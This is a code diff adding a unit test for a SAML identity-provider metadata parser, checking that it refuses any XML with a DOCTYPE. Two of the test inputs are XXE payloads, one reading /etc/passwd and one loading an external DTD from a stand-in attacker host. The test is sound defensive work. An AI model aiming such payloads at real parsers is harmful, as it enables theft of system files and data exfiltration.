@@ -31,6 +31,16 @@ describe('parseIdpMetadata', () => {
     expect(parseIdpMetadata(`<md:EntityDescriptor xmlns:md="${MD}" entityID="x"/>`)).toEqual({ ok: false, problem: { kind: 'noIdpDescriptor' } })
   })
 
+  it('refuses metadata with a DOCTYPE, with or without entities, which the service would parse', async () => {
+    const xml = idpMetadataXml('https://idp/entity', 'https://idp/sso', 'https://idp/slo', await idpCertificate())
+    const withDoctype = (doctype: string) => xml.replace('<md:EntityDescriptor', `${doctype}\n<md:EntityDescriptor`)
+    const refused = { ok: false, problem: { kind: 'doctype' } }
+    expect(parseIdpMetadata(withDoctype('<!DOCTYPE md:EntityDescriptor>'))).toEqual(refused)
+    expect(parseIdpMetadata(withDoctype('<!DOCTYPE md:EntityDescriptor [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'))).toEqual(refused)
+    expect(parseIdpMetadata(withDoctype('<!DOCTYPE md:EntityDescriptor SYSTEM "https://attacker.example/evil.dtd">'))).toEqual(refused)
+    expect(parseIdpMetadata(xml)).toMatchObject({ ok: true })
+  })
+
   it('refuses a sign-on service a browser would be sent to at an address other than http(s), preferred or not', () => {
     const withServices = (...services: [string, string][]) => `<md:EntityDescriptor xmlns:md="${MD}" entityID="urn:idp">
       <md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">
